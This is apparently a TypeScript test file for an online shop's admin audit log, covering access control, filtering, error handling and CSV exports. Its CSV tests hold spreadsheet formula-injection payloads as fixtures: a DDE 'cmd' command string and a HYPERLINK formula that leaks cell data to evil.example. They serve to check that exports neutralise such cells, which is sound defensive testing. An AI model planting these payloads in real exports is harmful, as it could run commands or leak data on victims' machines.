import { parse as parseCsv } from "csv-parse/sync";
import { eq } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { totpCredentials, users } from "../../../../db/schema";
import { sessionCookieName } from "../../../../server/auth/cookies";
import { signedInAdmin } from "../../../../tests/setup/admin-routes";
import { newCustomer, pageGet, routeArgs, sessionOf, settle } from "../../../../tests/setup/route-context";
import { upload } from "../../../../tests/setup/catalogue-admin";
import { useShopServices } from "../../../../tests/setup/shop-fixtures";
import { loader as analysisCsv } from "../analysis/business-analysis-csv";
import { loader as catalogueExport } from "../catalogue/export";
import { loader as importReport } from "../catalogue/import-report";
import { loader as subscribersCsv } from "../email-marketing/subscribers-csv";
import { loader as orderExport } from "../orders/order-export";
import { loader as csvLoader, handle as csvHandle } from "./audit-log-csv";
import { handle, loader } from "./audit-log";

const shop = useShopServices();
const args = (path: string, cookie?: string) => routeArgs({ db: shop.t.db, services: shop.s }, pageGet(path, cookie));
const page = (query: string, cookie?: string) => settle(() => loader(args(`/admin/audit-log${query}`, cookie)));

/**
 * An owner with a second factor set up (owners must have one before the back office opens), signed in with it:
 * a session of an account with a second factor that skipped the step is not signed in.
 */
async function owner() {
  const admin = await signedInAdmin(shop);
  shop.t.db.insert(totpCredentials).values({ userId: admin.id, secretEncrypted: "test" }).onConflictDoNothing().run();
  const { token } = shop.s.sessions.create(admin.id, { twoFactorVerified: true });
  return { ...admin, cookie: `${sessionCookieName(false)}=${token}` };
}

/** A member of staff in a role without staff.manage. */
async function packer() {
  const { user } = await newCustomer(shop.s);
  shop.t.db.update(users).set({ role: "admin", staffRole: "packer" }).where(eq(users.id, user.id)).run();
  return sessionOf(shop.s, user.id).cookie;
}

describe("the audit log page", () => {
  it("is for staff who manage staff: signed out goes to sign in, others get a 403", async () => {
    expect(handle.permission).toBe("staff.manage");
    expect(csvHandle.permission).toBe("staff.manage");
    const signedOut = await page("");
    expect(signedOut.location).toMatch(/^\/auth\?redirectTo=/);
    const customer = await newCustomer(shop.s);
    expect(await page("", sessionOf(shop.s, customer.user.id).cookie)).toMatchObject({ thrown: true, status: 403 });
    expect(await page("", await packer())).toMatchObject({ thrown: true, status: 403 });
    const csv = await settle(() => csvLoader(args("/admin/audit-log.csv", sessionOf(shop.s, customer.user.id).cookie)));
    expect(csv).toMatchObject({ thrown: true, status: 403 });
  });

  it("lists changes newest first with who, from where, area, permission, thing and change", async () => {
    const admin = await owner();
    const actor = { id: admin.id, username: admin.username, ip: "203.0.113.5", permission: "orders.refund" };
    shop.s.audit.record(actor, {
      entityType: "order",
      entityId: "ND-AUDIT1",
      action: "refunded",
      before: { refundedPence: 0, status: "paid" },
      after: { refundedPence: 350, status: "partially_refunded" },
    });
    shop.s.audit.record(actor, { entityType: "customer", entityId: 42, action: "data exported", area: "customers" });
    const out = await page("", admin.cookie);
    expect(out.status).toBe(200);
    const [customer, refund] = out.data!.rows;
    expect(customer).toMatchObject({ thing: { type: "customer", id: "42", href: null }, area: "customers" });
    expect(refund).toMatchObject({
      who: admin.username,
      ip: "203.0.113.5",
      area: "orders",
      permission: "orders.refund",
      thing: { type: "order", id: "ND-AUDIT1", href: "/admin/order-management/ND-AUDIT1" },
      before: "Refunded: £0.00, Status: paid",
      after: "Refunded: £3.50, Status: partially_refunded",
    });
    expect(refund!.when).toMatch(/^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/);
    expect(out.data!.choices.people).toContainEqual({ id: admin.id, name: admin.username });
  });

  it("filters by a customer, a person and an area through the address", async () => {
    const admin = await owner();
    const actor = { id: admin.id, username: admin.username, ip: null, permission: "customers.view" };
    shop.s.audit.record(actor, { entityType: "customer", entityId: 77, action: "address changed" });
    const forCustomer = await page("?thing=customer:77", admin.cookie);
    expect(forCustomer.data!.rows.map((r) => r.action)).toEqual(["address changed"]);
    expect(forCustomer.data!.query).toMatchObject({ type: "customer", id: "77" });
    const byPerson = await page(`?who=${admin.id}&area=customers`, admin.cookie);
    expect(byPerson.data!.rows.length).toBeGreaterThan(0);
    expect(byPerson.data!.rows.every((r) => r.actorId === admin.id && r.area === "customers")).toBe(true);
  });

  it("answers a hand-edited address with a 400 and a short message, not a 500", async () => {
    const admin = await owner();
    for (const query of ["?from=2026-02-30", "?from=2026-03-02&to=2026-03-01", "?page=-1", "?page=99999", "?area=%27--"]) {
      const out = await page(query, admin.cookie);
      expect(out.status, query).toBe(400);
      expect(out.data!.problem, query).toMatch(/^[A-Z].{5,120}$/);
      const csv = await settle(() => csvLoader(args(`/admin/audit-log.csv${query}`, admin.cookie)));
      expect(csv, query).toMatchObject({ thrown: true, status: 400 });
    }
  });
});

describe("the audit log's CSV", () => {
  it("holds the filtered rows with formula cells neutralised, and logs its own download", async () => {
    const admin = await owner();
    const actor = { id: admin.id, username: admin.username, ip: "198.51.100.7", permission: "catalogue.edit" };
    shop.s.audit.record(actor, { entityType: "record", entityId: 9001, action: "=cmd|' /C calc'!A0" });
    const response = await csvLoader(args("/admin/audit-log.csv?type=record&id=9001", admin.cookie));
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toMatch(/^attachment; filename="needledrop-audit-log-/);
    const [header, row, ...rest] = parseCsv(await response.text(), { bom: true }) as string[][];
    expect(header![0]).toBe("Row");
    expect(rest).toEqual([]);
    expect(row![9]).toBe("'=cmd|' /C calc'!A0");
    const [logged] = shop.s.audit.search({ type: "export", id: "audit-log", page: 1 }).rows;
    expect(logged).toMatchObject({
      actorId: admin.id,
      action: "export",
      area: "staff",
      permission: "staff.manage",
      after: { type: "record", id: "9001", rows: 1, cut: false },
    });
  });

  it("writes every logged text a spreadsheet would run as a formula with an apostrophe in front", async () => {
    const admin = await owner();
    const actor = { id: admin.id, username: "@SUM(A1:A9)", ip: "+44", permission: "catalogue.edit" };
    const title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    shop.s.audit.record(actor, { entityType: "record", entityId: "'=9002", action: "+renamed", after: { title } });
    const response = await csvLoader(args("/admin/audit-log.csv?type=record&id='%3D9002", admin.cookie));
    const [header, row] = parseCsv(await response.text(), { bom: true }) as string[][];
    const cell = (column: string) => row![header!.indexOf(column)];
    expect(cell("Who")).toBe("'@SUM(A1:A9)");
    expect(cell("From")).toBe("'+44");
    expect(cell("Thing id")).toBe("''=9002");
    expect(cell("Action")).toBe("'+renamed");
    expect(cell("After")).toBe(`Title: ${title}`);
  });
});

describe("every export of shop data", () => {
  it("writes an audit row saying what was downloaded, by whom and under which permission", async () => {
    const admin = await owner();
    const preview = await shop.s.adminCatalogue.previewImport(upload("catalogue_number,title,artist,price\nAUD-1,One,Band,9.99"));
    const exports = [
      {
        path: "/admin/order-management/export.csv?status=paid",
        run: orderExport,
        what: "orders",
        permission: "customers.export",
      },
      {
        path: "/admin/email-marketing/subscribers.csv",
        run: subscribersCsv,
        what: "subscribers",
        permission: "customers.export",
      },
      { path: "/admin/catalog-update/export.csv", run: catalogueExport, what: "catalogue", permission: "catalogue.edit" },
      {
        path: `/admin/catalog-update/import/report.csv?id=${preview.id}&hash=${preview.hash}`,
        run: importReport,
        what: "import-report",
        permission: "catalogue.edit",
      },
      {
        path: "/admin/business-analysis.csv?figure=sales",
        run: analysisCsv,
        what: "business-analysis/sales",
        permission: "analysis.view",
      },
    ];
    for (const e of exports) {
      const response = await e.run(args(e.path, admin.cookie) as never);
      expect(response.status, e.path).toBe(200);
      const [logged] = shop.s.audit.search({ type: "export", id: e.what, page: 1 }).rows;
      expect(logged, e.path).toMatchObject({ actorId: admin.id, action: "export", permission: e.permission });
    }
    const [orders] = shop.s.audit.search({ type: "export", id: "orders", page: 1 }).rows;
    expect(orders!.after).toMatchObject({ status: "paid" });
  });
});
